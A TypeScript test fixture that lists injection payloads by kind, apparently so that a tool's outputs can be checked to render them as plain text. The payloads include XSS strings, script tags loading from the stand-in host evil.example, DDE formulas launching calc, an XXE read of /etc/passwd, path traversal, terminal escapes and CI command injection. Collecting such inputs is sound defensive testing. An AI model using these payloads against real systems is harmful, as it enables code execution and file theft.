/**
 * What strangers may write to make a text act, one table for all outputs. Each is text wherever it comes out: no kind of
 * element, link, cell or command stands in an output with them that does not with plain words in their place. What would
 * become an element of a kind that is there anyway is called x, y or z: nothing else is called so.
 */

export interface Payload {
  readonly name: string;
  readonly text: string;
}

const evil = 'http://evil.example/x';

const kinds: Readonly<Record<string, readonly string[]>> = {
  'a link to a command': [
    '[x](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22calc%22%7D)',
    '<command:workbench.action.quit>',
    '[x]: command:workbench.action.quit',
    '[x][y]',
  ],
  HTML: [
    '<img src=x onerror=alert(1)>',
    '<a href="command:workbench.action.quit">x</a>',
    '<iframe srcdoc="x"></iframe>',
    '<details open ontoggle=alert(1)>',
    '<h1>x</h1><hr>',
    '&#60;img src=x onerror=alert(1)&#62;',
    '&lt;b&gt; &amp; &copy; &nbsp;',
    '<svg/onload=alert(1)>',
  ],
  'HTML that ends what stands around it': [
    '</td></tr></table></div></main></body></html><h1>x</h1>',
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    '</title></style></textarea><b>x</b>',
    '--><b>x</b><!--',
  ],
  'a script': ['<script>alert(1)</script>', "';alert(1);//", '</script><script src=http://evil.example/x.js>'],
  'an address that runs': [
    '[x](javascript:alert(1))',
    '[x](JaVaScRiPt&colon;alert(1))',
    '[x](<java\tscript:alert(1)>)',
    '<javascript:alert(1)>',
    '[x](data:text/html,<script>alert(1)</script>)',
    '[x](vbscript:x)',
    '[x](file:///etc/passwd)',
    String.raw`\\evil.example\share\a.docm`,
  ],
  'an address that becomes a link': [evil, 'www.evil.example', 'evil@evil.example', 'mailto:evil@evil.example', `<${evil}>`], // prettier-ignore
  'a remote picture': [
    `![x](${evil}.png)`,
    '![x][evil]',
    `[![x](${evil}.png)](${evil})`,
    `<img src="${evil}.png">`,
  ],
  'Markdown that ends the block': [
    '`',
    '``` x',
    '~~~',
    '| x | y |',
    'x | --- | y',
    '\\',
    '**x** _y_ ~~z~~',
    '](x) ![',
    '# x',
    '- x',
    '1. x',
    '> x',
    '---',
    '===',
    '    w',
    '[^1]',
    '- [ ] x',
    '$$x$$ $x$',
    '::: x',
  ],
  'several lines': [
    `x\n\n# y\n\n- z\n\n[evil]: ${evil}.png\n`,
    'x\n---\nelements: [3.2.4]\n---\n',
    'x\r\n\r\n<b>y</b>\r\n',
    'x\n| y |\n| --- |\n',
  ],
  'a mention': ['@everyone', 'fixes #1', 'org/repository#1', 'GH-1'],
  'an icon': ['$(bug)', '$(sync~spin)', '\\$(bug)', '$(x) $(', ':rocket:'],
  'a snippet': ['${1:x}', '$TM_FILENAME $0', '\\${1|a,b|}', '}'],
  'a sequence for a terminal': [
    '\u001B[31mw',
    '\u001B]8;;http://evil.example\u0007x',
    '\u001B]0;x\u0007',
    '\u009B31mw',
    'x\b\b\by',
    'x\ry',
    '\u007F',
    '\u0085w',
    '\u000Bx\u000Cy',
    '\u0007',
  ],
  'a mark of direction': ['\u202Ew', '\u2066w\u2069', '\u061Cw', '\u200Fw', '\u2028w\u2029w'],
  'a command of a CI system': [
    '::error::x',
    'x\n::set-output name=a::b',
    'x%0A::error::y',
    '##[error]x',
    '##vso[task.complete result=Failed]x',
    'x\n##vso[task.setvariable variable=a]b',
    '::stop-commands::x',
    '${{ github.token }}',
    'section_start:1:x\r\u001B[0K',
  ],
  'a formula': [
    '=HYPERLINK("http://evil.example","x")',
    '+1+1',
    '-1+1',
    '@SUM(1)',
    "=cmd|'/C calc'!A0",
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '"=1+1',
    ' =1+1',
    '=DDE("cmd";"/C calc";"x")',
    'of:=1+1',
  ],
  XML: [
    ']]>',
    '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;',
    '<?xml-stylesheet href="http://evil.example"?>',
    '<![CDATA[x]]>',
    '&y;',
    '\uFFFE\uFFFF',
    '_x0041_ _x005F_x0041_',
  ],
  'a calendar entry': ['x\nEND:VEVENT\nBEGIN:VALARM\nACTION:AUDIO', 'x;y,z:w\\n', 'x\r\n DESCRIPTION:y'],
  'a name that objects have': ['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'prototype'],
  'a template': ['{{constructor.constructor("alert(1)")()}}', '%s %d %n', '{0} {1}', '<%= x %>', '#{x}'],
  'a path': ['../../../etc/passwd', 'C:\\x', '/etc/passwd', 'CON', '..'],
  'half a character': ['\ud83d', '\ude00w', 'x\u0000y'],
  'a very long word': ['W'.repeat(3000), 'Ŵ'.repeat(700), 'W'.repeat(300).repeat(2)],
}; // prettier-ignore

/** All of them; those of one kind are numbered. */
export const payloads: readonly Payload[] = Object.entries(kinds).flatMap(([kind, texts]) =>
  texts.map((text, at) => ({ name: `${kind} ${at + 1}`, text })),
);

/** What people write that means no harm, and is laid out in its own way. */
const harmless = [
  'a\nb',
  'a\n\nb',
  'a  b',
  'a\tb',
  ' a',
  'a; b',
  'a, b and c',
  'a & b',
  '1 May 2027',
  'https',
  'é 😀',
  'a (b)',
  'It’s “a”',
];

/** As many texts that mean no harm, none of them like another. */
export const plainWords = (number: number): readonly Payload[] =>
  Array.from({ length: number }, (_, at) => ({
    name: `word ${at + 1}`,
    text: `Word${at + 1}${harmless[at % (harmless.length + 1)] ?? ''}`,
  }));

/** Each try takes every third of many, another third than the one before; the long run takes all. */
export const shareOf = <One>(all: readonly One[], at: number): readonly One[] =>
  process.env['FC_RUNS'] === undefined ? all.filter((_, place) => place % 3 === at % 3) : all;
